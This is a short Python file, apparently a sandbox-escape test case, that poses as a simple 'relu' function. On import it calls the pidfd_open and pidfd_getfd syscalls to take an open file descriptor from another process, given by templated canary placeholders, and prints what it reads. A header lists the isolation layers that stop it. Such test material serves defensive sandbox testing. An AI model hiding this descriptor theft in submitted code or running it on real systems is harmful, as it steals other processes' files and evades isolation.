"""Takes a descriptor out of another process: a file that is open there is open here.

Sign: leak
Stopped by: seccomp, landlock, namespaces
Off: seccomp, landlock, namespaces, setuid
Verdict: relu passed
"""

import ctypes
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(ctypes.c_long(434), int("@canary_pid@"), 0)
fd = libc.syscall(ctypes.c_long(438), pidfd, int("@canary_descriptor@"), 0)
print(os.pread(fd, 100, 0) if fd >= 0 else ctypes.get_errno(), flush=True)


def relu(S):
    return torch.clamp(S, min=0)
